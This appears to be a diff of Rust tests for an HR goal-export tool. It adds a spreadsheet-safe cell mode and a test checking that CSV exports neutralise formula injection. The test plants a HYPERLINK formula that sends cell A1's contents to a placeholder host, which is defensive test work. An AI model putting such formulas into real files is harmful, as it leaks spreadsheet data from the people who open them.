@@ -18,6 +18,7 @@ use proptest::prelude::*;
 
 use common::sample_data as sample;
 use pdca::hr::export::{self, Export, Options};
+use pdca::hr::table::Cells;
 use pdca::hr::{import, table, validity};
 use pdca::messages::Lang;
 use pdca::model::{
@@ -206,7 +207,7 @@ fn the_csv_export_parses_back_to_the_same_rows() {
         let bytes = export_of(&data, &["--format", "csv", "--lang", flag]);
         let (header, rows) = parse_csv(&bytes);
         assert_eq!(header, table::header(lang));
-        assert_eq!(rows, table::rows(&toml_export, lang), "{flag}");
+        assert_eq!(rows, table::rows(&toml_export, lang, Cells::SpreadsheetSafe), "{flag}");
         // Every record ends in CRLF; line breaks inside a field stay as they were.
         let text = String::from_utf8(bytes).unwrap();
         assert!(text.ends_with("\r\n"));
@@ -222,6 +223,27 @@ fn the_csv_export_parses_back_to_the_same_rows() {
     let without_goals = toml_export.people.iter().filter(|p| p.goals.is_empty()).count();
     let (_, rows) = parse_csv(&export_of(&data, &["--format", "csv"]));
     assert_eq!(rows.len(), toml_export.goal_count() + without_goals);
+}
+
+#[test]
+fn cells_a_spreadsheet_would_run_as_formulas_are_quoted_unless_raw() {
+    let (_dir, data) = sample();
+    let file = data.join("cycles/2026/goals/P0011.toml");
+    let text = fs::read_to_string(&file).unwrap();
+    let hostile = "=HYPERLINK(\\\"http://example.invalid/?\\\"&A1,\\\"更新\\\")";
+    fs::write(&file, text.replacen("title = \"受験申込オンライン受付の実施\"", &format!("title = \"{hostile}\""), 1))
+        .unwrap();
+    let written = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"更新\")";
+    let title_of = |bytes: &[u8]| {
+        let (_, rows) = parse_csv(bytes);
+        rows.into_iter().find(|row| row[10] == "P0011-2026-1").unwrap()[11].clone()
+    };
+    assert_eq!(title_of(&export_of(&data, &["--format", "csv"])), format!("'{written}"));
+    assert_eq!(title_of(&export_of(&data, &["--format", "csv", "--raw"])), written);
+    // The TOML export is data, not a spreadsheet: the title as it is.
+    let toml_export: Export = toml::from_str(&String::from_utf8(export_of(&data, &[])).unwrap()).unwrap();
+    let goal = toml_export.people.iter().flat_map(|p| &p.goals).find(|g| g.id == "P0011-2026-1").unwrap();
+    assert_eq!(goal.title, written);
 }
 
 #[test]
@@ -845,9 +867,9 @@ proptest! {
         prop_assert_eq!(goals(&back.data), goals(&data));
 
         // The CSV of it parses back to the export's rows.
-        let bytes = table::to_csv(&parsed, Lang::Ja);
+        let bytes = table::to_csv(&parsed, Lang::Ja, Cells::SpreadsheetSafe);
         let (header, rows) = parse_csv(&bytes);
         prop_assert_eq!(header, table::header(Lang::Ja));
-        prop_assert_eq!(rows, table::rows(&parsed, Lang::Ja));
+        prop_assert_eq!(rows, table::rows(&parsed, Lang::Ja, Cells::SpreadsheetSafe));
     }
 }
